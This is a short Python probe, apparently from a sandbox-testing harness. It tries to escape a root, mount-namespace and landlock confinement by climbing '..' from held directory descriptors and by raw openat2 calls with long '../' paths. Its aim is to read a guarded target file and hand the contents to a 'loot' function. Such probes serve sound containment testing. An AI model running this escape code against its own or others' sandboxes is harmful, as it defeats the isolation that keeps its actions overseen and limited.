"""Climbs above the root by `..` from descriptors that it keeps open, by openat and by openat2 without restraint."""
# walls: root mount_namespace landlock
# observe: unread word
# depth: yes
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
OPENAT2 = 437
root = os.stat("/")

for place in ("/", "/tmp", "/dev/shm", "/outputs", "/proc/self", "/usr", os.path.dirname(os.__file__)):
    held = os.open(place, os.O_RDONLY | os.O_DIRECTORY)
    for step in range(40):
        above = os.open("..", os.O_RDONLY | os.O_DIRECTORY, dir_fd=held)
        os.close(held)
        held = above
    top = os.fstat(held)
    if (top.st_dev, top.st_ino) != (root.st_dev, root.st_ino):
        gained(f"above {place} lies another root: {os.listdir(held)[:8]}")
    tried(f"40 steps up from {place}")

    how = (ctypes.c_uint64 * 3)(os.O_RDONLY, 0, 0)
    for path in ("../" * 40 + aim.file.lstrip("/"), aim.file):
        words = (ctypes.c_long(OPENAT2), ctypes.c_long(held), path.encode(), how, ctypes.c_long(24))
        descriptor = libc.syscall(*words)
        if descriptor >= 0:
            loot(os.read(descriptor, 4096))
            os.close(descriptor)
        else:
            tried(f"openat2 {path}: {os.strerror(ctypes.get_errno())}")
    os.close(held)
